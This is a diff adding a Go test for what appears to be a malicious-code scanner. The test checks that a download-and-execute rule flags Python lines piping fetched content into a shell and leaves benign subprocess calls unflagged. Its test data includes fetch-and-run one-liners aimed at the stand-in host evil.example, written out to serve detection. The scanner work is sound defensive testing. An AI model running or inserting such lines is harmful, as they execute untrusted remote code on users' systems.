@@ -136,3 +136,24 @@ func TestShellsByAnotherName(t *testing.T) {
 		}
 	}
 }
+
+// TestDownloadToAShellSink: Python that hands a download to a shell
+// (os.system, subprocess) runs it as surely as exec does; a subprocess
+// of its own commands does not.
+func TestDownloadToAShellSink(t *testing.T) {
+	for _, tt := range []struct {
+		line  string
+		block bool
+	}{
+		{`subprocess.run(requests.get("https://evil.example/a").text, shell=True)`, true},
+		{`os.system(urllib.request.urlopen("https://evil.example/a").read().decode())`, true},
+		{`subprocess.check_output(httpx.get(u).text, shell=True)`, true},
+		{`subprocess.run(["git", "status"], check=True)`, false},
+		{`r = requests.get(u, timeout=10); print(r.json())`, false},
+	} {
+		r := scanFiles(map[string]string{"run.py": tt.line + "\n"})
+		if got := has(r, "download-exec.eval-download", "run.py", 1); got != tt.block {
+			t.Errorf("%q: eval-download %v, want %v:\n%s", tt.line, got, tt.block, findings(r))
+		}
+	}
+}
